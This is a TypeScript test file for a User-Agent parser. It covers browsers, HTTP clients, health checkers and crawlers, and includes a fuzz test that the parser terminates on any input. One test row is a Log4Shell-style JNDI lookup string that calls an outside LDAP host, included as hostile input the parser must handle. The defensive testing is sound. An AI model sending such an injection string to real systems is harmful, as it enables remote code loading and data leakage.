import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { parseUserAgent } from '../../../src/codec/user-agent/parse-user-agent.ts';

const WINDOWS = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)';
const MAC = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)';
const LINUX = 'Mozilla/5.0 (X11; Linux x86_64)';
const ANDROID = 'Mozilla/5.0 (Linux; Android 10; K)';
const IPHONE = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X)';
const WEBKIT = 'AppleWebKit/537.36 (KHTML, like Gecko)';

for (const [header, name, version, os, osVersion, type = ''] of [
  [`${WINDOWS} ${WEBKIT} Chrome/141.0.0.0 Safari/537.36`, 'Chrome', '141.0.0.0', 'Windows', '10'],
  [`${WINDOWS} ${WEBKIT} Chrome/140.0.0.0 Safari/537.36 Edg/140.0.3485.54`, 'Edge', '140.0.3485.54', 'Windows', '10'],
  [`${MAC} ${WEBKIT} Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0`, 'Opera', '106.0.0.0', 'macOS', '10.15.7'],
  [
    `${MAC} AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15`,
    'Safari',
    '17.1',
    'macOS',
    '10.15.7',
  ],
  [`${LINUX} ${WEBKIT} HeadlessChrome/120.0.6099.28 Safari/537.36`, 'HeadlessChrome', '120.0.6099.28', 'Linux', ''],
  [
    `${ANDROID} ${WEBKIT} SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36`,
    'Samsung Internet',
    '27.0',
    'Android',
    '10',
  ],
  [
    `${IPHONE} AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1`,
    'Safari',
    '17.1',
    'iOS',
    '17.1.2',
  ],
  [
    `${IPHONE} AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/120.0.6099.50 Mobile/15E148 Safari/604.1`,
    'Chrome',
    '120.0.6099.50',
    'iOS',
    '17.1.2',
  ],
  ['Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'Firefox', '128.0', 'Ubuntu', ''],
  ['Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko', 'Internet Explorer', '11.0', 'Windows', '7'],
  ['Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1)', 'Internet Explorer', '8.0', 'Windows', 'XP'],
  [
    `Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) ${WEBKIT} Chrome/119.0.0.0 Safari/537.36`,
    'Chrome',
    '119.0.0.0',
    'Chrome OS',
    '14541.0.0',
  ],
  ['curl/8.5.0', 'curl', '8.5.0', '', ''],
  ['Wget/1.21.4', 'Wget', '1.21.4', '', ''],
  ['Go-http-client/1.1', 'Go-http-client', '1.1', '', ''],
  ['python-requests/2.31.0', 'python-requests', '2.31.0', '', ''],
  ['Apache-HttpClient/4.5.14 (Java/17.0.9)', 'Apache-HttpClient', '4.5.14', '', ''],
  ['okhttp/4.12.0', 'okhttp', '4.12.0', '', ''],
  ['PostmanRuntime/7.36.0', 'PostmanRuntime', '7.36.0', '', ''],
  ['Prometheus/2.53.1', 'Prometheus', '2.53.1', '', ''],
  ['kube-probe/1.31+', 'kube-probe', '1.31', '', '', 'test'],
  ['GoogleHC/1.0', 'GoogleHC', '1.0', '', '', 'test'],
  ['ELB-HealthChecker/2.0', 'ELB-HealthChecker', '2.0', '', '', 'test'],
  ['Uptime-Kuma/1.23.11', 'Uptime-Kuma', '1.23.11', '', '', 'test'],
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Googlebot', '2.1', '', '', 'bot'],
  [
    `${ANDROID} ${WEBKIT} Chrome/125.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)`,
    'Googlebot',
    '2.1',
    'Android',
    '10',
    'bot',
  ],
  ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'bingbot', '2.0', '', '', 'bot'],
  ['facebookexternalhit/1.1', 'facebookexternalhit', '1.1', '', '', 'bot'],
  ['Nikto', 'Nikto', '', '', ''],
  ['Mozilla/5.0', '', '', '', ''],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker sends
  ['${jndi:ldap://${java:version}.domain/a}', '', '', '', ''],
  ['', '', '', '', ''],
  ['-', '', '', '', ''],
] as const) {
  test(`parseUserAgent() knows ${JSON.stringify(header.slice(0, 100))}`, () =>
    assert.deepEqual(parseUserAgent(header), {
      name,
      version,
      osName: os,
      osVersion,
      syntheticType: type,
    }));
}

test('parseUserAgent() ends on any text', () => {
  const piece = fc.constantFrom(
    'Mozilla/5.0',
    ' ',
    '(',
    ')',
    'bot',
    'Trident/',
    'rv:',
    '-',
    'a',
    '1',
    '.',
    '/',
    'Android',
    'Cubot',
  );
  fc.assert(fc.property(fc.array(piece, { maxLength: 300 }), (pieces) => void parseUserAgent(pieces.join(''))));
});
